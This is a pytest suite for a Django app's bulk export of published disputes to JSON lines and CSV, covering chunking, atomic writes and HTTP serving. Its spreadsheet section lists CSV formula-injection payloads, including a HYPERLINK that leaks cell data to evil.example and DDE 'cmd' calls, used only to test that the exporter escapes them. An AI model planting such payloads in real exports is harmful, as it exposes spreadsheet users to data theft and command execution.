"""The bulk files of published disputes: writing them (disputes/exports.py), the task, and /data/."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.contrib.auth.models import User
from django.core.management import call_command
from django.test import Client
from django.utils.http import http_date

from disputes import exports
from disputes.models import Dispute, DisputeLink
from disputes.tasks import export_published_disputes
from disputes.tests.factories import DisputeFactory, add_link
from disputes.tests.openapi import validate_response, validate_schema
from disputes.tests.test_public_views import dispute_with_links, publish_directly

pytestmark = pytest.mark.django_db

SITE = "https://counterclaim.example"


@pytest.fixture(autouse=True)
def export_dir(settings, tmp_path: Path) -> Path:
    settings.SITE_URL = SITE
    settings.EXPORT_DIR = tmp_path / "exports"
    return settings.EXPORT_DIR


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def read_jsonl(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def test_export_writes_every_published_dispute_as_json_lines_and_csv(
    export_dir: Path, published: Dispute, reviewer: User
) -> None:
    withdrawn = publish_directly(dispute_with_links(2))
    withdrawn.withdraw(by=reviewer, reason="Misread.")
    DisputeFactory(claim_text="A draft nobody approved")

    assert export_published_disputes() == 2

    lines = read_jsonl(export_dir / "disputes.jsonl")
    assert [line["slug"] for line in lines] == [published.slug, withdrawn.slug]
    for line in lines:
        validate_schema("DisputeDetail", line)
        assert line["schema_version"] == 1
    assert lines[1]["withdrawn"] is True
    rows = read_csv(export_dir / "disputes.csv")
    assert list(rows[0]) == exports.CSV_COLUMNS
    assert [row["slug"] for row in rows] == [published.slug, withdrawn.slug]
    row = rows[0]
    assert row["schema_version"] == "1"
    assert row["claim"] == published.claim_text
    assert row["url"] == f"{SITE}/d/{published.slug}/"
    assert row["resolution"] == "denied"
    assert row["withdrawn"] == "false"
    assert row["published_at"] == lines[0]["published_at"]
    appearance = published.links.get(role=DisputeLink.Role.APPEARANCE).statement
    rebuttal = published.links.get(role=DisputeLink.Role.REBUTTAL).statement
    assert row["claimed_by"] == appearance.speaker.name
    assert row["appearance_urls"] == appearance.quote.source.url
    assert row["disputed_by"] == rebuttal.speaker.name
    assert row["rebuttal_urls"] == rebuttal.quote.source.url
    assert row["statement_count"] == "2"
    assert rows[1]["withdrawn"] == "true"
    assert rows[1]["withdrawal_reason"] == "Misread."


def test_export_gives_the_approved_wording_not_the_live_one(export_dir: Path, published: Dispute) -> None:
    Dispute.objects.filter(pk=published.pk).update(claim_text="Live edit", summary="Draft words")

    exports.write_exports()

    assert read_jsonl(export_dir / "disputes.jsonl")[0]["claim"] == published.claim_text
    assert "Draft words" not in (export_dir / "disputes.csv").read_text()


def test_export_reads_many_disputes_a_chunk_at_a_time(
    export_dir: Path, db: None, monkeypatch, django_assert_num_queries
) -> None:
    monkeypatch.setattr(exports, "CHUNK", 4)
    for _ in range(10):
        publish_directly(dispute_with_links(3))

    # Three chunks of at most four disputes, four queries each (disputes, sources, quotes, events), then
    # the empty read that ends the loop.
    with django_assert_num_queries(3 * 4 + 1):
        assert exports.write_exports() == 10
    assert len(read_csv(export_dir / "disputes.csv")) == 10


def test_an_export_that_fails_leaves_the_previous_files_whole(
    export_dir: Path, published: Dispute, monkeypatch
) -> None:
    exports.write_exports()
    before = {name: (export_dir / name).read_bytes() for name in ("disputes.jsonl", "disputes.csv")}
    publish_directly(dispute_with_links(2))

    def broken(record: dict) -> list[str]:
        raise RuntimeError("the disk is full")

    monkeypatch.setattr(exports, "csv_row", broken)
    with pytest.raises(RuntimeError):
        exports.write_exports()

    assert {name: (export_dir / name).read_bytes() for name in before} == before
    assert sorted(os.listdir(export_dir)) == ["disputes.csv", "disputes.jsonl"]  # no temporary file left


def test_exported_files_are_readable_by_the_web_server(export_dir: Path, published: Dispute) -> None:
    exports.write_exports()

    assert (export_dir / "disputes.csv").stat().st_mode & 0o777 == 0o644


# --- spreadsheets --------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_are_never_formulas(export_dir: Path, db: None, formula: str) -> None:
    dispute = DisputeFactory(claim_text=formula, summary=formula, context=formula)
    add_link(dispute, DisputeLink.Role.APPEARANCE, snapshot=False, speaker__name=formula)
    add_link(dispute, DisputeLink.Role.REBUTTAL, snapshot=False, speaker__name="Plain name")
    publish_directly(dispute)

    exports.write_exports()

    [row] = read_csv(export_dir / "disputes.csv")
    for column in ("claim", "summary", "context", "claimed_by"):
        assert row[column] == "'" + formula
    assert row["disputed_by"] == "Plain name"
    assert read_jsonl(export_dir / "disputes.jsonl")[0]["claim"] == formula  # the JSON keeps the words as they are


def test_safe_cell_leaves_ordinary_values_alone() -> None:
    assert exports.safe_cell("Kyiv denied it") == "Kyiv denied it"
    assert exports.safe_cell("A = B") == "A = B"
    assert exports.safe_cell(3) == "3"
    assert exports.safe_cell(True) == "true"
    assert exports.safe_cell(None) == ""


# --- serving the files ---------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["disputes.jsonl", "disputes.csv"])
def test_a_file_not_generated_yet_is_a_clear_503(client: Client, db: None, name: str) -> None:
    response = client.get(f"/data/{name}")

    assert response.status_code == 503
    problem = validate_response(f"/data/{name}", response)
    assert "not been generated yet" in problem["detail"]
    assert "Set-Cookie" not in response.headers


@pytest.mark.parametrize(
    ("name", "content_type"),
    [("disputes.jsonl", "application/jsonl; charset=utf-8"), ("disputes.csv", "text/csv; charset=utf-8")],
)
def test_files_are_served_as_downloads_with_their_date(
    client: Client, published: Dispute, export_dir: Path, name: str, content_type: str
) -> None:
    exports.write_exports()
    os.utime(export_dir / name, (1731420300, 1731420300))  # 12 Nov 2024 14:05 UTC

    response = client.get(f"/data/{name}")

    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'
    assert response["Last-Modified"] == "Tue, 12 Nov 2024 14:05:00 GMT"
    assert response["Cache-Control"] == "public, max-age=60, stale-while-revalidate=300"
    assert response["Access-Control-Allow-Origin"] == "*"
    assert "Set-Cookie" not in response.headers
    body = b"".join(response.streaming_content)
    assert body == (export_dir / name).read_bytes()
    assert published.slug in body.decode()


def test_an_unchanged_file_is_answered_304(client: Client, published: Dispute, export_dir: Path) -> None:
    exports.write_exports()
    modified = (export_dir / "disputes.csv").stat().st_mtime

    unchanged = client.get("/data/disputes.csv", headers={"If-Modified-Since": http_date(modified)})
    changed = client.get("/data/disputes.csv", headers={"If-Modified-Since": http_date(modified - 60)})

    assert unchanged.status_code == 304
    assert unchanged.content == b""
    assert changed.status_code == 200


def test_the_export_runs_hourly_and_on_demand(published: Dispute, export_dir: Path) -> None:
    entry = django_settings.CELERY_BEAT_SCHEDULE["export-published-disputes"]
    assert entry == {"task": "disputes.tasks.export_published_disputes", "schedule": 3600.0}
    out = io.StringIO()

    call_command("export_open_data", stdout=out)

    assert "Wrote 1 published dispute to" in out.getvalue()
    assert (export_dir / "disputes.jsonl").exists()
